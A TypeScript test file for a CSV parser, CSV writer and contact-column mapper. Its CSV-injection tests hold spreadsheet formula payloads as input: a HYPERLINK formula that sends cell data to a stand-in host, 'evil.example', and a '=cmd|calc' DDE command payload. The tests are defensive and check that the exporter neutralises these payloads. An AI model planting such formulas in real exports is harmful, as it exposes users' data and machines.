import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { AppError } from '../errors';
import { parseCsv, suggestColumnMapping, toCsv } from './csv';

describe('parseCsv', () => {
  it('reads quoted values with doubled quotes, delimiters and empty values', () => {
    const text = 'Name,Notes,Tags\r\n"Dufour, Camille","She said ""call after 10""",\r\n"",plain,"a,b"\r\n';
    expect(parseCsv(text)).toEqual({
      header: ['Name', 'Notes', 'Tags'],
      rows: [
        { line: 2, values: ['Dufour, Camille', 'She said "call after 10"', ''] },
        { line: 3, values: ['', 'plain', 'a,b'] },
      ],
      delimiter: ',',
    });
  });

  it('keeps line breaks inside quotes and still reports the physical start line of each record', () => {
    const text = [
      'Name,Notes',
      '"Camille","line one',
      'line two',
      'line three"',
      'Daniel,"crlf\r\ninside"',
      'Leyla,last',
    ].join('\r\n');
    const { rows } = parseCsv(text);
    expect(rows).toEqual([
      { line: 2, values: ['Camille', 'line one\r\nline two\r\nline three'] },
      { line: 5, values: ['Daniel', 'crlf\r\ninside'] },
      { line: 7, values: ['Leyla', 'last'] },
    ]);
  });

  it('counts LF-only and lone-CR line ends, and skips empty lines without losing count', () => {
    expect(parseCsv('a,b\n1,2\n\n"x\ny",3\n').rows).toEqual([
      { line: 2, values: ['1', '2'] },
      { line: 4, values: ['x\ny', '3'] },
    ]);
    expect(parseCsv('a,b\r1,2\r\r3,4').rows).toEqual([
      { line: 2, values: ['1', '2'] },
      { line: 4, values: ['3', '4'] },
    ]);
  });

  it('detects ";" from a European Excel header and keeps commas in values', () => {
    const text = '\uFEFFNom;Courriel;Médias\r\n"Dufour; Camille";camille@example.org;Tribune, édition du soir\r\n';
    expect(parseCsv(text)).toEqual({
      header: ['Nom', 'Courriel', 'Médias'],
      rows: [{ line: 2, values: ['Dufour; Camille', 'camille@example.org', 'Tribune, édition du soir'] }],
      delimiter: ';',
    });
  });

  it('detects TAB, ignores delimiters inside quoted header names, and honours an explicit delimiter', () => {
    expect(parseCsv('Name\tEmail\nA\ta@example.org').delimiter).toBe('\t');
    expect(parseCsv('"Name; full",Email,Phone\nA,b,c').delimiter).toBe(',');
    expect(parseCsv('a;b,c\n1;2,3', { delimiter: ',' }).rows[0]?.values).toEqual(['1;2', '3']);
    expect(parseCsv('Name\nA').delimiter).toBe(',');
  });

  it("takes the delimiter from Excel's sep= line and skips it, keeping line numbers physical", () => {
    expect(parseCsv('sep=;\r\nName;Email\r\nA,B;a@example.org\r\n')).toEqual({
      header: ['Name', 'Email'],
      rows: [{ line: 3, values: ['A,B', 'a@example.org'] }],
      delimiter: ';',
    });
  });

  it('strips the byte order mark and trims header names only', () => {
    expect(parseCsv('\uFEFF Name , Email \n  A  , b ')).toMatchObject({
      header: ['Name', 'Email'],
      rows: [{ line: 2, values: ['  A  ', ' b '] }],
    });
  });

  it('reads stray quotes the way Excel does', () => {
    expect(parseCsv('a,b\n5" floppy,"quoted"tail\n').rows[0]?.values).toEqual(['5" floppy', 'quotedtail']);
  });

  it('keeps short and long rows as they are, and a trailing delimiter as an empty value', () => {
    expect(parseCsv('a,b,c\n1\n1,2,3,4\n1,2,\n').rows.map((row) => row.values)).toEqual([['1'], ['1', '2', '3', '4'], ['1', '2', '']]);
  });

  it('refuses a quoted value that is never closed, naming the line where it opens', () => {
    let caught: unknown;
    try {
      parseCsv('Name,Notes\nA,ok\nB,"never\nclosed\n');
    } catch (error) {
      caught = error;
    }
    expect(caught).toBeInstanceOf(AppError);
    expect(caught).toMatchObject({ code: 'VALIDATION_FAILED', message: 'Line 3: a quoted value is never closed', details: { line: 3 } });
  });

  it('returns nothing for empty text', () => {
    expect(parseCsv('')).toEqual({ header: [], rows: [], delimiter: ',' });
    expect(parseCsv('\uFEFF')).toEqual({ header: [], rows: [], delimiter: ',' });
  });

  it('removes one formula-guard apostrophe, unless asked to keep it', () => {
    const text = "a,b,c\n'+41780000000,'=1+1,'plain\n";
    expect(parseCsv(text).rows[0]?.values).toEqual(['+41780000000', '=1+1', "'plain"]);
    expect(parseCsv(text, { keepFormulaGuards: true }).rows[0]?.values).toEqual(["'+41780000000", "'=1+1", "'plain"]);
  });
});

describe('toCsv', () => {
  it('quotes only when needed, doubles quotes, writes CRLF after every record', () => {
    expect(
      toCsv(
        ['Name', 'Notes'],
        [
          ['Dufour, Camille', 'says "hi"'],
          ['Okafor', 'two\nlines'],
          ['Semi;colon', null],
          [' padded ', undefined],
          ['Zoë Müller-Łukasiewicz', '李小龍 🎙️'],
        ],
      ),
    ).toBe(
      'Name,Notes\r\n"Dufour, Camille","says ""hi"""\r\nOkafor,"two\nlines"\r\n"Semi;colon",\r\n" padded ",\r\nZoë Müller-Łukasiewicz,李小龍 🎙️\r\n',
    );
  });

  it('neutralises cells a spreadsheet would run as formulas (CSV injection)', () => {
    const csv = toCsv(
      ['Name'],
      [['=HYPERLINK("http://evil.example/?"&A1,"click")'], ['+41 78 000 00 00'], ['-2+3'], ['@SUM(A1)'], ['\t=1'], ['\r=1'], ["'=1"], ["'ok"]],
    );
    const cells = csv.split('\r\n').slice(1, -1);
    expect(cells).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
      "'+41 78 000 00 00",
      "'-2+3",
      "'@SUM(A1)",
      `"'\t=1"`,
      `"'\r=1"`,
      "''=1",
      "'ok",
    ]);
    // No cell of the export starts with a formula character.
    for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('can write a byte order mark for Excel and a ";" delimiter', () => {
    expect(toCsv(['a', 'b'], [['1,5', '2']], { delimiter: ';', byteOrderMark: true })).toBe('\uFEFFa;b\r\n"1,5";2\r\n');
  });

  it('round-trips through parseCsv, formula guards and all, for any text', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 12 }),
      fc.stringMatching(/^'*[=+\-@\t\r]?[a-z,;"\r\n ]{0,6}$/),
    );
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 5 }), fc.array(fc.array(cell, { minLength: 5, maxLength: 5 }), { maxLength: 8 }), (columns, rows) => {
        // Header names are trimmed by parseCsv, so generate them already trimmed and non-empty.
        const header = Array.from({ length: columns }, (_, index) => `Column ${index + 1}`);
        const table = rows.map((row) => row.slice(0, columns));
        // A row of one empty value is indistinguishable from an empty line, which parseCsv skips.
        const expected = table.filter((row) => !(row.length === 1 && row[0] === ''));
        const parsed = parseCsv(toCsv(header, table));
        expect(parsed.header).toEqual(header);
        expect(parsed.rows.map((row) => row.values)).toEqual(expected);
      }),
      { numRuns: 300 },
    );
  });

  it('round-trips 5,000 media contacts in well under a second', () => {
    const header = ['Name', 'Email', 'Phone', 'Outlet', 'Notes', 'Tags'];
    const rows = Array.from({ length: 5_000 }, (_, index) => [
      index % 7 === 0 ? `Müller-Łukasiewicz, Zoë ${index}` : `Journalist ${index}`,
      `journalist.${index}@example.org`,
      index % 3 === 0 ? '+41780000000' : '',
      index % 5 === 0 ? 'Lakeside Tribune; "Evening"' : 'Example Wire Service',
      index % 11 === 0 ? 'Prefers calls\nafter 10:00 CET' : '',
      index % 13 === 0 ? '=cmd|calc' : 'demo',
    ]);
    const started = performance.now();
    const parsed = parseCsv(toCsv(header, rows));
    const elapsed = performance.now() - started;
    expect(parsed.rows.map((row) => row.values)).toEqual(rows);
    // Line numbers account for the embedded line breaks in the notes.
    expect(parsed.rows.at(-1)?.line).toBe(1 + 5_000 + rows.filter((row) => row[4]!.includes('\n')).length);
    // Measured at about 50 ms on the 2-core dev machine; the bound leaves room for a busy CI host.
    expect(elapsed).toBeLessThan(500);
  });
});

describe('suggestColumnMapping', () => {
  it('maps common English, French, German and Spanish header names', () => {
    const headers = {
      Name: 'name', 'Full name': 'name', Nom: 'name', Nombre: 'name',
      'E-mail': 'email', 'Email address': 'email', Courriel: 'email', 'Correo electrónico': 'email', 'E-Mail-Adresse': 'email',
      Phone: 'phone', Mobile: 'phone', Téléphone: 'phone', Handy: 'phone', Teléfono: 'phone',
      Outlet: 'outlet', Media: 'outlet', Publication: 'outlet', Médias: 'outlet', Redaktion: 'outlet', Medio: 'outlet',
      Beat: 'role', Role: 'role', Rubrique: 'role', Ressort: 'role', Cargo: 'role',
      'Language(s)': 'languages', Langues: 'languages', Sprachen: 'languages', Idiomas: 'languages',
      Country: 'country', Pays: 'country', Land: 'country', País: 'country',
      'Time zone': 'timeZone', 'Fuseau horaire': 'timeZone', Zeitzone: 'timeZone', 'Zona horaria': 'timeZone',
      Notes: 'notes', Remarques: 'notes', Bemerkungen: 'notes', Notas: 'notes',
      Tags: 'tags', Étiquettes: 'tags', Schlagwörter: 'tags', Etiquetas: 'tags',
      WhatsApp: 'whatsapp', 'First name': 'givenName', Vorname: 'givenName', Prénom: 'givenName', 'Last name': 'familyName', Apellidos: 'familyName',
    } as const;
    for (const [header, field] of Object.entries(headers)) {
      expect(suggestColumnMapping([header]), header).toEqual({ [header]: field });
    }
  });

  it('suggests each field for one column only, preferring the more specific name', () => {
    expect(suggestColumnMapping(['Name', 'Phone', 'Mobile', 'Whatever', 'Email', 'Courriel'])).toEqual({
      Name: 'name',
      Phone: null,
      Mobile: 'phone',
      Whatever: null,
      Email: 'email',
      Courriel: null,
    });
  });

  it('reads Outlook and Google Contacts export headers', () => {
    expect(
      suggestColumnMapping(['Title', 'First Name', 'Last Name', 'Company', 'Job Title', 'Business Phone', 'Mobile Phone', 'E-mail Address', 'Notes', 'Categories']),
    ).toEqual({
      Title: null,
      'First Name': 'givenName',
      'Last Name': 'familyName',
      Company: 'outlet',
      'Job Title': 'role',
      'Business Phone': null,
      'Mobile Phone': 'phone',
      'E-mail Address': 'email',
      Notes: 'notes',
      Categories: 'tags',
    });
    expect(
      suggestColumnMapping(['Name', 'E-mail 1 - Type', 'E-mail 1 - Value', 'Phone 1 - Value', 'Organization 1 - Name', 'Organization 1 - Title', 'Group Membership']),
    ).toEqual({
      Name: 'name',
      'E-mail 1 - Type': null,
      'E-mail 1 - Value': 'email',
      'Phone 1 - Value': 'phone',
      'Organization 1 - Name': 'outlet',
      'Organization 1 - Title': 'role',
      'Group Membership': 'tags',
    });
  });
});
